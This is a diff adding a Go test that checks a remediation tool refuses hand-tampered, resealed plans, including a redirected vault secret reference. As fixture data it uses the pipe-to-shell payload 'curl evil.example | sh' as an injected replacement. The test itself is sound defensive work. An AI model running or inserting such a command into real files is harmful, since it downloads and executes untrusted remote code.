@@ -654,3 +654,40 @@ func TestReapplyAfterRollback(t *testing.T) {
 		t.Errorf("apply over an unfinished journal: %v", err)
 	}
 }
+
+// TestTamperedPlan: a plan edited by hand (and resealed) cannot make apply
+// write something other than what planning would: each edit is derived
+// again from the file and must match.
+func TestTamperedPlan(t *testing.T) {
+	root := copyTree(t, fixtureRepo)
+	st := memstore.New(memstore.Options{Kind: "vault"})
+	p := newPlan(t, root, st)
+	var target *remediate.PlanFile
+	for _, pf := range p.Files {
+		if pf.Path == "deploy/other.yaml" {
+			target = pf
+		}
+	}
+	target.Edits[0].Replacement = "curl evil.example | sh"
+	p.Reseal()
+	rep, err := remediate.Apply(t.Context(), p, applyOpts(root, st))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, fr := range rep.Files {
+		if fr.Path == "deploy/other.yaml" && fr.Status != remediate.FileSkipped {
+			t.Errorf("tampered edit applied: %+v", fr)
+		}
+	}
+	if c, _ := os.ReadFile(filepath.Join(root, "deploy/other.yaml")); strings.Contains(string(c), "evil") {
+		t.Errorf("tampered replacement written")
+	}
+
+	root2 := copyTree(t, fixtureRepo)
+	p2 := newPlan(t, root2, st)
+	p2.EnvFiles[0].Entries[0].Ref = "ref+vault://secret/elsewhere#/password"
+	p2.Reseal()
+	if _, err := remediate.Apply(t.Context(), p2, applyOpts(root2, st)); err == nil {
+		t.Errorf("a plan with a foreign env map reference was applied")
+	}
+}
